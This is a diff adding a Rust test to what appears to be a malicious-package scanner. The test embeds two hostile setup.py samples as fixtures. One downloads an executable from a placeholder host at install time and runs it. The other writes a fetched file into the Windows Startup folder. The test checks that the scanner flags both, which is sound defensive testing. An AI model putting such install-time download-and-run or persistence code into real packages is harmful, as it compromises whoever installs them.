@@ -285,3 +285,14 @@ fn a_recon_command_at_install_and_a_dns_beacon_at_import_are_malicious() {
     let r = sdist(&[("setup.py", setup), ("pkg/__init__.py", local)]);
     assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
 }
+
+#[test]
+fn a_program_downloaded_and_started_or_planted_in_startup_at_install_is_malicious() {
+    // A misspelt module path still means a download.
+    let setup = "import urllib.request\nfrom subprocess import run\nfrom setuptools import setup\ntry:\n    urllib.urlrequest.urlretrieve('https://files.example.invalid/tool.exe', 'tool.exe')\n    run(['start', 'tool.exe'], shell=True)\nexcept Exception:\n    pass\nsetup(name='pkg')\n";
+    let r = sdist(&[("setup.py", setup)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    let startup = "import os, requests\nfrom setuptools import setup\ndata = requests.get('https://127.0.0.1:9/x.zip').content\nopen(os.getenv('APPDATA') + '\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\u.bat', 'wb').write(data)\nsetup(name='pkg')\n";
+    let r = sdist(&[("setup.py", startup)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
